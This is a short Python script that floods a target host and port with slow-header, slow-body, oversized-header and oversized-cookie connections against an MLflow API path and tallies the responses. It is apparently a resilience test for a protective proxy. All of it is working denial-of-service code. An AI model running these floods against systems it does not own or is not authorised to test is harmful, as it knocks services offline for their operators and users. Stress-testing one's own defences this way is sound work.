"""flood.py HOST PORT KIND CONNECTIONS SECONDS: connections of somebody hostile to a guard, all at once, for so long.

Kinds: "slow" headers, a byte a second; "slow body" of a request with long headers; "headers" of 900 kB and "cookies" of 900 kB, again and
again. Prints as JSON how many connections there were, and the statuses of answers.
"""
import collections
import json
import socket
import sys
import threading
import time

host, port, kind, number, seconds = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4]), float(sys.argv[5])
end = time.monotonic() + seconds
statuses: collections.Counter[str] = collections.Counter()
HEAD = b"POST /api/2.0/mlflow/experiments/search HTTP/1.1\r\nHost: a.b\r\n"
LONG = b"".join(b"X-Long-%d: %s\r\n" % (index, b"x" * 9000) for index in range(100))
COOKIES = b"Cookie: " + b"; ".join(b"__Host-mlflow-sign-in_%d=%s" % (index, b"x" * 3800) for index in range(235)) + b"\r\n"


def trickle(connection: socket.socket, piece: bytes) -> None:
    """Sends a piece a second."""
    while time.monotonic() < end:
        connection.sendall(piece)
        time.sleep(1)


def attack() -> None:
    """One connection after the other."""
    while time.monotonic() < end:
        try:
            with socket.create_connection((host, port), timeout=20) as connection:
                statuses["connections"] += 1
                if kind == "slow":
                    connection.sendall(HEAD + b"X-Slow: ")
                    trickle(connection, b"x")
                elif kind == "slow body":
                    connection.sendall(HEAD + LONG[:45000] + b"\r\nContent-Length: 100000000\r\n\r\n")
                    trickle(connection, b"x" * 1000)
                else:
                    connection.sendall(HEAD + (LONG if kind == "headers" else COOKIES) + b"Content-Length: 0\r\n\r\n")
                    statuses[connection.recv(100).split(b" ")[1].decode()] += 1
        except (OSError, IndexError) as error:
            statuses[type(error).__name__] += 1


threads = [threading.Thread(target=attack) for _ in range(number)]
for thread in threads:
    thread.start()
for thread in threads:
    thread.join()
print(json.dumps(statuses))
